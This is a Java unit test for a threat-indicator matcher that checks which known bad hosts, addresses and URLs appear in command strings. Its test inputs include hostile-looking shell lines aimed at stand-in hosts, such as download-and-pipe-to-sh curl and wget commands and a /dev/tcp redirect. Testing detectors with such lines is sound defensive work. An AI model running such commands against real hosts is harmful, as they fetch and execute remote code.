package davy.core.indicator;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.time.Instant;
import java.util.List;
import org.junit.jupiter.api.Test;

class MentionsTest {
    private static final Indicators KNOWN =
            Indicators.parse(
                    "feed",
                    """
                    bad.example.net
                    http://files.example.org/x/run.sh?id=1
                    203.0.113.7
                    198.51.100.0/28
                    2001:db8::7
                    """
                            .getBytes(StandardCharsets.UTF_8),
                    Instant.EPOCH);

    private static List<String> in(String text) {
        return KNOWN.namedIn(text).stream().map(Indicator::value).toList();
    }

    @Test
    void findsNamesAddressesAndUrlsWhereverTheyStand() {
        assertThat(in("curl -fsSL http://c2.bad.example.net:8080/x|sh"))
                .containsExactly("bad.example.net");
        assertThat(in("ssh root@BAD.example.net. -p 22")).containsExactly("bad.example.net");
        assertThat(in("exec 3<>/dev/tcp/x;wget -qO- 203.0.113.7/a.sh"))
                .containsExactly("203.0.113.7");
        assertThat(in("--url=198.51.100.9:3333")).containsExactly("198.51.100.0/28");
        assertThat(in("curl 'http://[2001:db8::7]:80/'")).containsExactly("2001:db8::7");
        assertThat(in("wget \"https://files.example.org/x/run.sh?id=1\""))
                .containsExactly("files.example.org/x/run.sh?id=1");
        assertThat(in("curl files.example.org/x/run.sh?id=1|sh"))
                .containsExactly("files.example.org/x/run.sh?id=1");
        assertThat(in("curl http://files.example.org/x/run.sh?id=1&"))
                .containsExactly("files.example.org/x/run.sh?id=1");
    }

    @Test
    void passesOverWhatOnlyLooksAlike() {
        assertThat(in("curl http://files.example.org/x/run.sh")).isEmpty();
        assertThat(in("tail /var/log/nginx/bad.example.net")).isEmpty();
        assertThat(in("curl https://notbad.example.net/ 203.0.113.70 198.51.100.16")).isEmpty();
        assertThat(in("bad.example.net.log bad.example.network")).isEmpty();
        assertThat(in("")).isEmpty();
        assertThat(in("[[[.].://..")).isEmpty();
    }

    @Test
    void takesNoLongTimeForATextOfDots() {
        String text = "a.bc,".repeat(200_000);
        org.junit.jupiter.api.Assertions.assertTimeout(
                Duration.ofSeconds(10), () -> assertThat(in(text)).isEmpty());
    }
}
